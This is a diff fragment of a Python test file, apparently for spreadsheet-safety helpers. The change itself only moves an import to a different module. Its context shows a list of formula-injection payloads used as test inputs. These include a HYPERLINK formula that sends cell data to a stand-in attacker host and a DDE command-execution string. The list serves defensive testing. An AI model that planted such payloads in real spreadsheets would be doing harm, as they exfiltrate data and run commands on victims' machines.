@@ -7,8 +7,8 @@ import io
 
 from openpyxl import Workbook, load_workbook
 
+from app.domain.spreadsheet_safety import protect_workbook, write_text_cell
 from app.models import ApiRole, EnterpriseRole
-from app.services.spreadsheet_safety import protect_workbook, write_text_cell
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "=1+1"]
